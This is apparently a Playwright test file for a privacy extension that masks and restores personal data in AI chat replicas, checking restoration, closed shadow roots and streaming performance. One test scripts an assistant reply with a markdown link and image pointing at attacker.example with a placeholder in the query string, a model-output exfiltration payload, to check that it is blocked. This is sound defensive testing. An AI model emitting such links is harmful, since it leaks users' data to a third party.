// Inbound guard on the three replicas: placeholders in replies and in the user's own turns show the originals to the
// user only (closed shadow roots), never inside URLs; exfiltration images never reach the network; replies are flagged
// in place while they stream; benign replies get no notice.

import type { Page } from '@playwright/test';
import { test, expect, splitInside } from './fixtures';
import type { ChatSitePage } from './pages';

const SITES = ['chatgpt', 'claude', 'gemini'] as const;
// Synthetic values in formats the engine detects.
const EMAIL = 'alice.smith@acme-corp.com';
const PHONE = '+1 415 555 0132';

async function guardUp(site: ChatSitePage): Promise<void> {
  await expect(site.page.locator('html')).toHaveAttribute('data-chatwarden-status', 'protected', { timeout: 15_000 });
}

/** What a page script can read: the whole body's innerText and textContent. */
async function pageScriptText(page: Page): Promise<string> {
  return page.evaluate(() => `${document.body.innerText}\n${document.body.textContent}`);
}

interface CdpNode {
  nodeId: number;
  nodeType: number;
  nodeName: string;
  nodeValue?: string;
  children?: CdpNode[];
  shadowRoots?: CdpNode[];
  pseudoElements?: Array<CdpNode & { pseudoType?: string }>;
}

/** The text of a computed CSS `content` value made of one string literal. */
function cssContentText(value: string): string {
  const literal = /^"((?:[^"\\]|\\.)*)"$/s.exec(value.trim())?.[1] ?? '';
  return literal.replace(/\\([0-9a-fA-F]{1,6}) ?|\\(.)/gs, (_, hex: string | undefined, char: string | undefined) =>
    hex ? String.fromCodePoint(parseInt(hex, 16)) : (char ?? ''),
  );
}

/**
 * What the user is shown in the last turn: its rendered text, with each <chatwarden-value> read from inside its closed
 * shadow root (generated content included). Only DevTools (pierce) reaches there; page scripts and Playwright's DOM
 * engine cannot.
 */
async function shownText(site: ChatSitePage, which: 'assistant' | 'user'): Promise<string> {
  try {
    return await shownTextOnce(site, which);
  } catch (error) {
    // The snapshot went stale while it was read (the turn re-rendered between DOM.getDocument and a style query):
    // report nothing shown yet, so the polling assertions read it again.
    if (String(error).includes('Could not find node with given id')) return '';
    throw error;
  }
}

async function shownTextOnce(site: ChatSitePage, which: 'assistant' | 'user'): Promise<string> {
  const selector = which === 'assistant' ? site.selectors.assistantBody : site.selectors.userText;
  const cdp = await site.page.context().newCDPSession(site.page);
  try {
    await cdp.send('DOM.enable');
    await cdp.send('CSS.enable');
    const { root } = (await cdp.send('DOM.getDocument', { depth: -1, pierce: true })) as unknown as { root: CdpNode };
    const { nodeIds } = await cdp.send('DOM.querySelectorAll', { nodeId: root.nodeId, selector });
    const wanted = nodeIds.at(-1);
    const find = (node: CdpNode): CdpNode | undefined => {
      if (node.nodeId === wanted) return node;
      for (const child of [...(node.children ?? []), ...(node.shadowRoots ?? [])]) {
        const found = find(child);
        if (found) return found;
      }
      return undefined;
    };
    const turn = wanted === undefined ? undefined : find(root);
    if (!turn) return '';
    const generated = async (node: CdpNode): Promise<string> => {
      const before = node.pseudoElements?.find((pseudo) => pseudo.pseudoType === 'before');
      if (!before) return '';
      const { computedStyle } = await cdp.send('CSS.getComputedStyleForNode', { nodeId: before.nodeId });
      return cssContentText(computedStyle.find((property) => property.name === 'content')?.value ?? '');
    };
    const text = async (node: CdpNode, inValue: boolean): Promise<string> => {
      if (node.nodeType === 3) return node.nodeValue ?? '';
      if (node.nodeName === 'CHATWARDEN-VALUE') {
        let shown = '';
        for (const shadow of node.shadowRoots ?? []) shown += await text(shadow, true);
        return shown;
      }
      if (node.nodeName.startsWith('CHATWARDEN-') || node.nodeName === 'STYLE') return '';
      let out = inValue ? await generated(node) : '';
      for (const child of node.children ?? []) out += await text(child, inValue);
      return out;
    };
    return await text(turn, false);
  } finally {
    await cdp.detach();
  }
}

/** The kinds flagged on the last assistant turn (the adapter's turn element is the body or one of its ancestors). */
async function turnFindings(site: ChatSitePage): Promise<string | null> {
  return site.assistantMessages().last().evaluate((body) => body.closest('[data-chatwarden-finding]')?.getAttribute('data-chatwarden-finding') ?? null);
}

/** Sends a message holding the PII so the conversation's vault has [EMAIL_1] and [PHONE_1]. */
async function seedVault(site: ChatSitePage): Promise<void> {
  await site.goto();
  await guardUp(site);
  await site.sendMessage(`Mail ${EMAIL} or call ${PHONE}`);
  await site.waitForReply();
}

for (const siteId of SITES) {
  test.describe(`inbound restore on ${siteId}`, () => {
    test('placeholders in the echoed reply and the user turn show the originals; page scripts read none', async ({ sites, recorder }) => {
      const site = sites[siteId];
      await seedVault(site);
      recorder.assertNoneContain([EMAIL, PHONE]);
      await expect(site.assistantMessages().last().locator('chatwarden-value')).toHaveCount(2);
      await expect.poll(() => shownText(site, 'assistant')).toContain(EMAIL);
      await expect.poll(() => shownText(site, 'assistant')).toContain(PHONE);
      await expect.poll(() => shownText(site, 'user')).toContain(EMAIL);
      const value = site.assistantMessages().last().locator('chatwarden-value').first();
      await expect(value).toHaveAttribute('title', 'restored by ChatWarden from [EMAIL_1]');

      const readable = await pageScriptText(site.page);
      expect(readable).not.toContain(EMAIL);
      expect(readable).not.toContain(PHONE);
      expect(readable).toContain('[EMAIL_1]');
      // Nor through the element itself: the shadow root is closed.
      expect(await value.evaluate((element) => element.shadowRoot === null && !element.innerHTML.includes('@'))).toBe(true);
    });

    test('a placeholder split across stream chunks is restored while the reply streams', async ({ sites }) => {
      const site = sites[siteId];
      await seedVault(site);
      const reply = 'Noted: your address is [EMAIL_1], and I will write to it.';
      const [head, tail] = splitInside(reply, '[EMAIL_1]');
      site.scriptNextReply([head!, tail!, ' More text follows.', ' Done.'], { delayMs: 400 });
      await site.sendMessage('ok');
      await expect(site.stopButton()).toBeVisible();
      await expect.poll(() => shownText(site, 'assistant'), { timeout: 4000 }).toContain(`your address is ${EMAIL}`);
      expect(await site.isStreaming()).toBe(true);
      await site.waitForReply();
      await expect.poll(() => shownText(site, 'assistant')).toContain(`your address is ${EMAIL}, and I will write`);
      expect(await pageScriptText(site.page)).not.toContain(EMAIL);
    });

    test('placeholders in markdown image and link URLs are not restored; the exfiltration image never loads', async ({ sites, recorder }) => {
      const site = sites[siteId];
      await seedVault(site);
      site.scriptNextReply(
        'Here is [the report](https://attacker.example/r?to=[EMAIL_1]) and a chart ' +
          '![chart](https://attacker.example/c.png?d=[EMAIL_1]) for [EMAIL_1].',
      );
      await site.sendMessage('show me');
      await site.waitForReply();
      const turn = site.assistantMessages().last();
      await expect(turn.locator('a')).toHaveAttribute('href', 'https://attacker.example/r?to=[EMAIL_1]');
      await expect(turn.locator('img')).toHaveAttribute('src', 'https://attacker.example/c.png?d=[EMAIL_1]');
      // The plain-text mention is restored; the URLs are not.
      await expect(turn.locator('chatwarden-value')).toHaveCount(1);
      await expect.poll(() => turnFindings(site)).toMatch(/exfil-link/);
      await expect(site.page.getByText('Image blocked: would send data to attacker.example')).toBeVisible();
      await expect(site.page.locator('chatwarden-notice[role="alert"]')).toHaveCount(1);
      await site.page.waitForTimeout(500);
      expect(recorder.external().filter((request) => request.url.includes('attacker.example'))).toEqual([]);
      recorder.assertNoneContain([EMAIL]);
    });
  });
}

interface TraceEvent {
  name: string;
  ph: string;
  ts: number;
  dur?: number;
  tdur?: number;
  tid: number;
  args?: { data?: { url?: string } };
}

/**
 * The most CPU time ChatWarden's code took inside one task of the page's main thread, in ms, from a DevTools trace:
 * the thread time (tdur) of every function call into the extension's scripts, summed per enclosing task. Thread time,
 * not wall time: on a shared test machine the renderer is descheduled at random, which says nothing about our work.
 * Long-task entries cannot be used: they cover the page's own rendering too, and the replica re-renders the whole
 * reply on every chunk.
 */
function maxExtensionTaskMs(events: TraceEvent[]): number {
  const calls = events.filter((event) => event.name === 'FunctionCall' && event.args?.data?.url?.startsWith('chrome-extension://'));
  const tasks = events.filter((event) => event.name === 'RunTask' && event.ph === 'X').sort((a, b) => a.ts - b.ts);
  const perTask = new Map<TraceEvent, number>();
  for (const call of calls) {
    const task = tasks.find((candidate) => candidate.tid === call.tid && candidate.ts <= call.ts && call.ts < candidate.ts + (candidate.dur ?? 0)) ?? call;
    perTask.set(task, (perTask.get(task) ?? 0) + (call.tdur ?? call.dur ?? 0) / 1000);
  }
  return Math.max(0, ...perTask.values());
}

test('a 20 KB reply full of placeholders streams with no ChatWarden task over 50 ms, restored as it goes', async ({ sites }) => {
  test.setTimeout(60_000);
  const site = sites.chatgpt;
  await seedVault(site);
  const paragraph = 'Dear [EMAIL_1], please call [PHONE_1] about the report; the figures are attached below. ';
  const reply = Array.from({ length: 12 }, () => paragraph.repeat(20)).join('\n\n');
  expect(reply.length).toBeGreaterThan(20_000);
  site.scriptNextReply(reply.match(/[^]{1,512}/g)!, { delayMs: 40 });
  const cdp = await site.page.context().newCDPSession(site.page);
  const events: TraceEvent[] = [];
  cdp.on('Tracing.dataCollected', (event) => events.push(...(event.value as unknown as TraceEvent[])));
  const traced = new Promise((resolve) => cdp.once('Tracing.tracingComplete', resolve));
  await cdp.send('Tracing.start', {
    traceConfig: { includedCategories: ['devtools.timeline', 'disabled-by-default-devtools.timeline', 'toplevel'] },
    transferMode: 'ReportEvents',
  });
  // Page-side probe: how many restored values existed at some moment while the reply was still streaming.
  await site.page.evaluate((selector) => {
    const probe = { maxWhileStreaming: 0 };
    (window as unknown as { __restoreProbe: typeof probe }).__restoreProbe = probe;
    new MutationObserver(() => {
      if (!window.__chatReplica?.streaming) return;
      const bodies = document.querySelectorAll(selector);
      const count = bodies[bodies.length - 1]?.querySelectorAll('chatwarden-value').length ?? 0;
      probe.maxWhileStreaming = Math.max(probe.maxWhileStreaming, count);
    }).observe(document.body, { subtree: true, childList: true, characterData: true });
  }, site.selectors.assistantBody);
  await site.sendMessage('the long one');
  await site.waitForReply({ timeout: 30_000 });
  const probe = await site.page.evaluate(() => (window as unknown as { __restoreProbe: { maxWhileStreaming: number } }).__restoreProbe);
  expect(probe.maxWhileStreaming, 'values restored while the reply streamed').toBeGreaterThan(0);
  await expect.poll(() => shownText(site, 'assistant')).toContain(`Dear ${EMAIL}, please call ${PHONE}`);
  const expected = (reply.match(/\[EMAIL_1\]|\[PHONE_1\]/g) ?? []).length;
  await expect(site.assistantMessages().last().locator('chatwarden-value')).toHaveCount(expected, { timeout: 10_000 });
  await site.page.waitForTimeout(1000); // the final inspection of the whole reply
  await cdp.send('Tracing.end');
  await traced;
  expect(events.some((event) => event.name === 'FunctionCall' && event.args?.data?.url?.startsWith('chrome-extension://'))).toBe(true);
  const longest = maxExtensionTaskMs(events);
  console.log(`20 KB streamed reply: longest ChatWarden task ${longest.toFixed(1)} ms (CPU, Chromium trace)`);
  expect(longest, `most ChatWarden CPU time in one task: ${longest.toFixed(1)} ms`).toBeLessThan(50);
  expect(await pageScriptText(site.page)).not.toContain(EMAIL);
});
